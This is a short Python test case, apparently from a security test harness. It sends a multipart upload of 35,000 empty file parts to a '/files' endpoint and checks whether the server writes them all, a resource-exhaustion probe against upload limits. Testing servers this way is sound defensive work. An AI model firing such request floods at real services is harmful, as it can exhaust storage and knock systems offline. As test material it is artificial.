# aim: have the server hold more than it may
# mechanism: a form of very many parts
# server: body
# plain: naive

def attack():
    part = b'--x\r\nContent-Disposition: form-data; name="file"; filename="f"\r\n\r\n\r\n'
    answer = ask("POST", "/files", part * 35_000 + b"--x--\r\n", E2b_Sandbox_Id=mine.sandbox, Content_Type="multipart/form-data; boundary=x")
    return answer.is_good and "35,000 files were written by one request"


judge(attack)
